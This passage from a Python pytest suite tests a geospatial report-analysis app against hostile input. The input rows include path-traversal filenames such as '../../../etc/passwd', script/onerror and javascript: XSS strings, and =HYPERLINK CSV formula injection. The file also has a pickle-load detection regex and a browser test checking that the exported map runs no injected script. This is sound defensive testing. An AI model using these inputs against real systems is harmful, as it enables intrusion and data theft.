        lambda t, m: [rejected(read_upload, "e.txt", d, match="empty") for d in (b"", b" \n\t ", b"Title: x\n\n  ")]),
    Row("binary bytes upload", "upload", "message: 'looks binary'", row_binary_upload),
    Row("stray NUL and control bytes in a text file; UTF-16 without BOM", "upload",
        "cleaned with warnings / message: 'looks binary'", row_stray_nul_upload),
    Row("binary / NUL / non-text to analyze", "analyze", "message: NUL, not UTF-8, must be text", row_binary_analyze),
    Row("invalid UTF-8 upload", "upload", "message: 'not UTF-8 text (byte N)'", row_invalid_utf8_upload),
    Row("UTF-16 with BOM (LE, BE) and UTF-8 BOM", "upload", "result: decoded, places found", row_utf16_bom),
    Row("5 MB text", "analyze, parse_report, upload, batch", "message naming MAX_REPORT_CHARS", row_5mb),
    Row("50 MB text", "upload, analyze, store ingest", "message naming MAX_REPORT_CHARS; rest stored", row_50mb),
    Row("one 1 MB line (1,000,000 characters)", "analyze", "result: place, distance, date at the end",
        _long_line(1_000_000)),
    Row("one 1.5 MB line (under MAX_REPORT_CHARS)", "analyze", "result: place, distance, date at the end",
        _long_line(1_500_000)),
    Row("only numbers", "analyze", "result: no places, distances or claims", row_numbers_only),
    Row("RTL Arabic, Hebrew, bidi override, mixed", "analyze", "result: Kyiv, Minsk", row_rtl),
    Row("Cyrillic report", "analyze", "result (valid offsets)", row_cyrillic),
    Row("emoji", "analyze", "result: Kyiv, the date, 100 km", row_emoji),
    Row("zero-width characters in names", "analyze", "result: never another place", row_zero_width),
    Row("homoglyph Kyіv (Cyrillic і)", "analyze", "result: Kyiv (UA), text as written", row_homoglyph),
    Row("<script>, <img onerror> in text", "analyze", "result: markup kept as text", row_script_tags),
    Row("HTML upload with script, style, links", "upload", "result: visible text only", row_html_upload),
    Row("HTML with 100,000s of unclosed tags", "upload", "result in linear time", row_html_unclosed_tags),
    Row("a 1 MB 'Published:' header", "upload", "result: no date, report kept", row_huge_header),
    Row("javascript: URLs, <script> in title", "HTML map export", "escaped: no element, no link", row_javascript_url),
    Row("Markdown in a title", "app labels (md_escape)", "every markdown character escaped", row_markdown),
    Row("=HYPERLINK(...) formula cells", "CSV export (app)", "cells start with ' ; numbers untouched", row_csv_formula),
    Row("hostile strings in GeoJSON", "GeoJSON export", "valid against the feature schema, exact text", row_geojson),
    Row("hostile report ingested, analysed, exported", "store -> CSV / GeoJSON", "neutralised CSV, exact GeoJSON",
        row_store_ingest_export),
    Row("JSONL with bad lines (deep, binary) and dirty ones (surrogate, NUL)", "store ingest",
        "bad lines rejected, dirty lines cleaned, good all stored", row_store_mixed_jsonl),
    Row("a bad report mid-transaction", "store add_reports", "nothing written (all or nothing)",
        row_store_no_partial_write),
    Row("31 February, year 99999, years 1 and 9999", "analyze", "unresolved with reason / message",
        row_impossible_dates),
    Row("1e308 km, 1e309 km, -100 km", "analyze + claims", "finite figures; 1e309 skipped; readable verdict",
        row_huge_distance),
    Row("10,000 mentions", "extract", "result: 10,000 mentions, valid offsets", row_10k_mentions_extract),
    Row("10,000 mentions", "analyze + HTML map", "result in the guard time", row_10k_mentions_analyze),
    Row("more mentions than MAX_MENTIONS_DRAWN", "HTML map, app map", "capped, with a note naming the setting",
        row_mentions_drawn_limit),
    Row("50,000 '=' and 50,000 emoji without a space", "analyze", "result in the guard time", row_long_unspaced_run),
    Row("mixed hostile JSONL batch", "parse --jsonl", "one line per input: result or {id, error}", row_mixed_batch),
    Row("invalid UTF-8 line in a batch", "parse --jsonl", "{id, error} for that line, batch goes on",
        row_batch_invalid_utf8_line),
    Row("100,000-deep JSON line in a batch", "parse --jsonl", "{id, error} for that line, batch goes on",
        row_batch_deep_json),
    Row("unpaired surrogates (JSON \\ud800) in a batch id and text", "parse --jsonl",
        "answered: id echoed, text cleaned with a warning", row_batch_surrogates),
    Row("UTF-8 BOM before a batch", "parse --jsonl", "the first line parsed", row_batch_bom),
    Row("upload named ../secret.txt, ../../../etc/passwd", "upload", "name kept as a label, never a path",
        row_upload_dotdot_name),
    Row("layer named ../../../evil.geojson", "layer upload", "written only in a private temp folder",
        row_layer_dotdot_name),
    Row("invalid GeoJSON, not GeoJSON, binary, points", "layer upload", "message with the reason", row_layer_invalid),
    Row("self-intersecting polygon", "layer upload", "repaired and said so", row_layer_bowtie),
    Row("huge GeoJSON", "layer upload", "message naming USER_LAYER_MAX_BYTES / _FEATURES", row_layer_huge),
    Row("wrong CRS (metres as degrees), UTM declared, unknown CRS", "layer upload",
        "message / reprojected result", row_layer_wrong_crs),
]


@pytest.mark.timeout(120)
@pytest.mark.parametrize("row", [pytest.param(r, id=f"{r.name} -> {r.entry}", marks=r.marks) for r in ROWS])
def test_hostile_input(row: Row, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    outcome = "crash"
    try:
        row.check(tmp_path, monkeypatch)
        outcome = "ok"
    except AssertionError:
        outcome = "wrong"
        raise
    finally:
        log_event(kind="row", name=row.name, entry=row.entry, outcome=outcome)


def test_the_table_covers_the_issue() -> None:
    assert len(ROWS) >= 30
    names = " ".join(r.name for r in ROWS).lower()
    for needle in ("empty", "whitespace", "binary", "invalid utf-8", "utf-16", "5 mb", "50 mb", "1 mb line",
                   "numbers", "rtl", "cyrillic", "emoji", "zero-width", "homoglyph", "<script>", "onerror",
                   "javascript:", "markdown", "hyperlink", "31 february", "99999", "1e308", "10,000 mentions",
                   "geojson", "crs", "../"):
        assert needle in names, needle


# --- no pickle or joblib at run time ----------------------------------------------------------------------


def test_no_pickle_or_joblib_load_in_the_package_source() -> None:
    pattern = re.compile(r"\b(?:pickle|cPickle|_pickle|joblib|dill|cloudpickle)\s*\.\s*(?:loads?|Unpickler)\b"
                         r"|\bfrom\s+(?:pickle|joblib|dill|cloudpickle)\s+import\b"
                         r"|\bnp\.load\([^)]*allow_pickle\s*=\s*True")
    hits = [f"{p.name}:{n}" for p in sorted(settings.PACKAGE_DIR.rglob("*.py"))
            for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if pattern.search(line)]
    assert hits == []
    # the one place that may unpickle is the build script, and only with a class-refusing unpickler
    build = (settings.PROJECT_DIR / "boundaries" / "build.py").read_text(encoding="utf-8")
    assert "find_class" in build and "refusing" in build


_NO_PICKLE_RUN = r"""
import pickle, _pickle, sys
events = []
sys.addaudithook(lambda e, a: events.append(a[:2]) if e == "pickle.find_class" else None)
def refuse(*a, **k):
    raise RuntimeError("pickle used at run time")
class Refusing(pickle.Unpickler):
    def load(self):
        refuse()
for mod in (pickle, _pickle):
    mod.load = mod.loads = refuse
    mod.Unpickler = Refusing
from geo_app.pipeline import analyze
from geo_app import features as L
from geo_app.io import geojson
a = analyze("Kyiv is as close as 100 km from the southern border of Belarus, said Minsk on Friday.", "2022-02-10")
assert a.claims and a.resolutions
geojson.to_geojson_text(L.features_gdf([a]))
print("events", len(events), events[:3])
print("joblib" in sys.modules, "dill" in sys.modules)
"""


@pytest.mark.timeout(180)
def test_no_pickle_is_loaded_when_analysing() -> None:
    """A fresh process with pickle's loaders replaced by a refusal: the model, gazetteer and borders load,
    a report is analysed and exported, and no class is ever unpickled (audit hook)."""
    import subprocess

    env = {**os.environ, "PYTHONHASHSEED": "0"}
    proc = subprocess.run([sys.executable, "-c", _NO_PICKLE_RUN], capture_output=True, text=True, timeout=170,
                          env=env, cwd=str(settings.PROJECT_DIR))
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "events 0 []" in proc.stdout and "False False" in proc.stdout, proc.stdout


def test_data_and_model_wheels_are_hash_pinned_and_installed() -> None:
    """Offline half of dependency hygiene: every data/model wheel is pinned by sha256, and the
    installed version is the pinned one (pip-audit against the vulnerability DB is in SECURITY.md)."""
    from importlib.metadata import version

    lines = [ln.split("#")[0].strip() for ln in
             (settings.PROJECT_DIR / "requirements" / "pinned-data.txt").read_text(encoding="utf-8").splitlines()]
    pins = [ln for ln in lines if ln]
    assert len(pins) >= 3
    for pin in pins:
        m = re.fullmatch(r"([A-Za-z0-9_.-]+)==([0-9][^ ]*) --hash=sha256:([0-9a-f]{64})", pin)
        assert m, pin
        assert version(m[1]) == m[2], f"{m[1]} installed {version(m[1])}, pinned {m[2]}"
    deps = (settings.PROJECT_DIR / "pyproject.toml").read_text(encoding="utf-8")
    assert "en-core-web-trf" not in deps and "en_core_web_trf" not in deps  # the PyPI name is a squat


# --- XSS in a real browser: the exported HTML map ----------------------------------------------------------

_OPEN_EVERYTHING = """() => {
  const maps = Object.keys(window).filter(k => k.startsWith('map_') && window[k] instanceof L.Map).map(k => window[k]);
  const texts = []; let n = 0;
  maps.forEach(m => m.eachLayer(l => {
    if (!l.feature) { return; }
    n += 1;
    if (l.getPopup && l.getPopup()) {
      l.openPopup();
      document.querySelectorAll('.leaflet-popup-content').forEach(e => texts.push(e.innerText));
      l.closePopup();
    }
    if (l.getTooltip && l.getTooltip()) {
      l.openTooltip();
      document.querySelectorAll('.leaflet-tooltip').forEach(e => texts.push(e.innerText));
    }
  }));
  const injected = document.querySelectorAll('.leaflet-popup-pane img, .leaflet-tooltip img, .leaflet-pane script, '
                                             + '.leaflet-control-container img[src="x"], a[href^="javascript"]').length;
  return {maps: maps.length, features: n, texts: texts, injected: injected,
          title: Array.from(document.querySelectorAll('.geo-app-title-box')).map(e => e.innerText)};
}"""


@pytest.mark.browser
@pytest.mark.timeout(180)
def test_exported_html_map_runs_nothing_it_was_sent(tmp_path: Path) -> None:
    """The standalone HTML map of a hostile report, opened from disk in Chromium with every request
    blocked: every popup and tooltip opened, no script from the report runs, no dialog opens, the
    markup is shown literally, and the page asks for nothing over the network."""
    if not CHROMIUM.exists():
        pytest.skip("needs Debian's chromium at /usr/bin/chromium")
    from playwright.sync_api import sync_playwright

    from geo_app.render import maps

    report, _ = hostile_analysis()
    page_file = tmp_path / "map.html"
    page_file.write_text(maps.export_html(hostile_features(), title=report.title), encoding="utf-8")
    requests: list[str] = []
    dialogs: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"])
        try:
            context = browser.new_context()

            def route(r: Any) -> Any:
                if r.request.url.startswith(("file:", "data:", "blob:", "about:")):
                    return r.continue_()
                requests.append(r.request.url)
                return r.abort()

            context.route("**/*", route)
            page = context.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(page_file.as_uri())
            page.wait_for_function("() => window.L && Object.keys(window).some(k => k.startsWith('map_'))",
                                   timeout=30_000)
            page.wait_for_timeout(500)
            seen = page.evaluate(_OPEN_EVERYTHING)
            pwned = page.evaluate("() => window.__pwned")
        finally:
            browser.close()
    shown = "\n".join(seen["texts"])
    scripts_run = int(pwned is not None) + len(dialogs) + seen["injected"]
    log_event(kind="browser", features=seen["features"], popups=len(seen["texts"]), scripts_executed=scripts_run,
              requests=len(requests))
    assert seen["maps"] == 1 and seen["features"] > 3
    assert pwned is None and dialogs == [] and seen["injected"] == 0
    assert IMG in shown and FORMULA in shown  # shown literally, as text
    assert any(XSS in t for t in seen["title"])
    assert requests == []
